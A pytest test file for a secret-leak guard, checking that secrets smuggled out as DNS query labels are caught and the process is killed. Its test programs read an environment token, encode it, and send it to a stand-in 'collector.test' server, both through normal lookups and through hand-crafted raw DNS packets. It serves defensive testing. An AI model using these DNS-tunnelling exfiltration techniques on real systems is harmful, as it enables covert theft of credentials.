# SPDX-License-Identifier: MIT
"""T20: a secret leaves as a label of a DNS question, and no connection is ever made."""

from __future__ import annotations

import base64
import sys
from collections.abc import Callable

import pytest

from lab import Lab, tokens
from lab.guard import DENIED, FINDINGS, Guarded, assert_leak_stopped
from lab.network import BARE, RESOLVER
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

ASK = """\
import base64, os, socket, time
value = os.environ["{name}"]
label = {label}
try:
    {ask}
except OSError:
    pass
time.sleep(2)
open("survived", "w").close()
"""
LABELS = {
    "raw": "value",
    "base64url": "base64.urlsafe_b64encode(value.encode()).decode().rstrip('=')",
    "base64url-of-pair": "base64.urlsafe_b64encode(b'k=' + value.encode()).decode().rstrip('=')",
}
GETADDRINFO = 'socket.getaddrinfo(label + ".collector.test", 443)'
# A question of its own making, straight to the thief's own server.
DIRECT = f"""\
query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(label)]) + label.encode()
    query += b"\\x09collector\\4test\\0\\0\\x10\\0\\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("{BARE}", 53))"""


def asker(lab: Lab, token: Token, label: str, ask: str = GETADDRINFO) -> list[str]:
    """A program that takes the secret from its environment: its command line is clean."""
    program = lab.directory / "ask.py"
    program.write_text(ASK.format(name=token.name, label=LABELS[label], ask=ask))
    return [sys.executable, str(program)]


def left(lab: Lab, token: Token) -> bool:
    """Whether any form of the secret reached a server."""
    padded = (b"", b"k=")
    forms = [base64.urlsafe_b64encode(pad + token.value.encode())[4:-4] for pad in padded]
    needles = [token.value.encode(), *forms]
    return any(lab.dns.received(form) or lab.collector.received(form) for form in needles)


@pytest.mark.parametrize("label", sorted(LABELS))
def test_unguarded_the_name_server_reads_the_secret(lab: Lab, label: str) -> None:
    token = tokens.hexadecimal()
    lab.run(asker(lab, token, label), env=token.env)
    assert left(lab, token)
    assert (lab.directory / "survived").exists()


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize("label", sorted(LABELS))
def test_guarded_the_question_never_arrives(
    lab: Lab, leakstop: Guard, mode: str, label: str
) -> None:
    token = tokens.hexadecimal()
    run = leakstop(asker(lab, token, label), mode=mode, secrets=[token])
    assert not left(lab, token)
    assert not lab.dns.asked("collector.test")
    assert not (lab.directory / "survived").exists(), "the process was not killed"
    assert_leak_stopped(run, token, finding="secret-in-dns", program="python", destination="")
    (found,) = run.findings("secret-in-dns")
    assert found["destination"].endswith("collector.test")


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_an_allowed_wildcard_is_no_way_out(lab: Lab, leakstop: Guard, mode: str) -> None:
    token = tokens.hexadecimal()
    run = leakstop(
        asker(lab, token, "raw"),
        mode=mode,
        policy='version: 1\nallow: "**.collector.test"\n',
        secrets=[token],
    )
    assert not left(lab, token)
    assert_leak_stopped(run, token, finding="secret-in-dns", program="python", destination="")


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_a_server_of_the_thief_is_asked_directly(lab: Lab, leakstop: Guard, mode: str) -> None:
    token = tokens.hexadecimal()
    command = asker(lab, token, "raw", DIRECT)
    lab.run(command, env=token.env)
    assert lab.collector.bytes_of(token.value.encode()) == len(token.value)
    before = len(lab.collector.connections)

    run = leakstop(command, mode=mode, secrets=[token])
    assert len(lab.collector.connections) == before
    # In block mode the address is denied before there is a question to look into.
    assert run.code in ((FINDINGS,) if mode == "audit" else (FINDINGS, DENIED)), run.stderr
    assert run.shows(token) == []


def test_a_secret_on_the_command_line_of_a_resolver(
    lab: Lab, leakstop: Guard, secret: Token
) -> None:
    """Both in argv and in the name; either finding is right, the question must not arrive."""
    script = lab.directory / "step.sh"
    script.write_text(f"getent hosts {secret.value}.collector.test\n")
    run = leakstop(["sh", str(script)], mode="audit", secrets=[secret])
    assert not left(lab, secret)
    ids = {finding["id"] for finding in run.findings()}
    assert run.code == FINDINGS and ids and ids <= {"secret-in-argv", "secret-in-dns"}
    assert run.shows(secret) == []


def test_ordinary_questions_pass(lab: Lab, leakstop: Guard) -> None:
    token = tokens.hexadecimal()
    script = "getent hosts other.test; getent hosts a-long-but-harmless-label.collector.test"
    run = leakstop(["sh", "-c", script], mode="audit", secrets=[token])
    assert (run.code, run.findings()) == (0, []), run.stderr
    assert lab.dns.asked("other.test")
    assert lab.dns.asked("a-long-but-harmless-label.collector.test")


# Not one plain question each: nothing in them can be judged, but a secret in them is seen.
ODD = {
    "blank-in-the-label": "label += ' '",
    "byte-above-ascii": "label += '\\x80'",
    "answers-counted": "head = b'\\0\\1\\1\\0\\0\\1\\0\\1\\0\\0\\0\\0'",
    "two-questions": "head = b'\\0\\1\\1\\0\\0\\2\\0\\0\\0\\0\\0\\0'",
    "notify": "head = b'\\0\\1\\x21\\0\\0\\1\\0\\0\\0\\0\\0\\0'",
}
ASK_ODDLY = """\
head = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
    {change}
    label = label.encode("latin-1")
    query = head + bytes([len(label)]) + label + b"\\x09collector\\4test\\0\\0\\x10\\0\\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("{server}", 53))"""


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize("odd", sorted(ODD))
def test_an_odd_question_is_no_way_out(lab: Lab, leakstop: Guard, mode: str, odd: str) -> None:
    token = tokens.hexadecimal()
    ask = ASK_ODDLY.format(change=ODD[odd], server=RESOLVER)
    run = leakstop(asker(lab, token, "raw", ask), mode=mode, secrets=[token])
    assert not left(lab, token)
    assert not (lab.directory / "survived").exists()
    assert [finding["id"] for finding in run.findings() if finding["severity"] == "critical"] == [
        "secret-in-dns"
    ]
    assert run.code == FINDINGS
    assert run.shows(token) == []
